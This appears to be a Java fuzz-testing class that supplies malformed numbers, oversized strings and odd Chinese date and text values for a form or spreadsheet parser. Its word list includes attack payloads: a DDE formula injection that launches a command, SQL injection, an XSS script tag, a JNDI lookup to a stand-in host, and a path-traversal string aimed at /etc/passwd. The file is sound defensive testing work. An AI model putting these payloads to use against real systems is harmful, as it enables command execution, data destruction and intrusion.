package expertpool.fuzz;

import java.util.List;
import java.util.Random;

/** Words and numbers that nobody types into a form, and programs stumble over. */
final class HostileWords {
    private static final List<String> NUMBERS = List.of(
            "-1",
            "0",
            "1",
            "2147483647",
            "2147483648",
            "99999999999999999999",
            "-99999999999",
            "1e999999999",
            "1E-999999999",
            "1e308",
            "NaN",
            "",
            " ",
            "１２",
            "0x10",
            "1,5",
            "2958465",
            "2958466.5",
            "140499198001010011",
            "1.1",
            "A1048577",
            "XFE1",
            "A0",
            "ZZZZZZZZ99999999999",
            "A1:XFD1048576",
            "A1:B2:C3",
            "restart",
            "true",
            "../../../../etc/passwd",
            "http://example.com/x.xml",
            "rId999",
            "[$-804]yyyy\"年\";;;@[红]#,##0.00_);[DBNum1]",
            "yyyy".repeat(500));
    private static final List<String> WORDS = List.of(
            "长治市应急管理专家汇总表",
            "长治市应急管理专家推荐表",
            "姓名",
            "身份证号",
            "填报科室：填报时间：承办人：",
            "签名：",
            "同上",
            "示例",
            "合计",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "'; DROP TABLE form; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://example.com/a}",
            "%s%n%x {0} $1 \\1",
            "\uD83D\uDE00\uD86C\uDFAF\u202E\u200B\uFEFF",
            "１２３４５６７８９０",
            "1404991980010100111404991980010100x1",
            "2026年13月45日至2026年02月30日",
            "99999999999年9999月9999日",
            "二〇〇〇〇〇〇〇〇〇〇〇〇〇年十十十月百百百日",
            "9999-99-99~9999.99.99上午下午半天",
            "99999999999999999999人",
            "1.1.1.1.1.1.1.1、99.99、0.0",
            "德99999999999 能-1 勤1.1.1 绩1e5 廉",
            "☑☒□在岗退休□☑".repeat(40),
            "0355-".repeat(300),
            "a@".repeat(2000),
            "a".repeat(3000) + "@" + "b.".repeat(1500),
            "（".repeat(3000),
            "2026年9月5日、".repeat(600),
            "1.3 矿井通风与瓦斯防治、".repeat(400),
            "安全管理".repeat(2000),
            "专家：" + "张三、".repeat(1500),
            "张三2天、".repeat(1500),
            "一二三四五六七八九十百年月日".repeat(300),
            "9".repeat(20_000),
            "\n".repeat(5000),
            " 　\u00A0".repeat(4000),
            "·".repeat(3000),
            "王".repeat(30_000),
            "1 ".repeat(8000),
            "加减扣+-1分".repeat(800));

    private HostileWords() {}

    static String number(Random random) {
        return random.nextInt(8) == 0
                ? Long.toString(random.nextLong())
                : Specimens.any(NUMBERS, random).replace("\"", "&quot;");
    }

    /** As XML has them. */
    static String escaped(Random random) {
        String words = random.nextInt(8) == 0 ? number(random) : Specimens.any(WORDS, random);
        return words.replace("&", "&amp;").replace("<", "&lt;");
    }
}
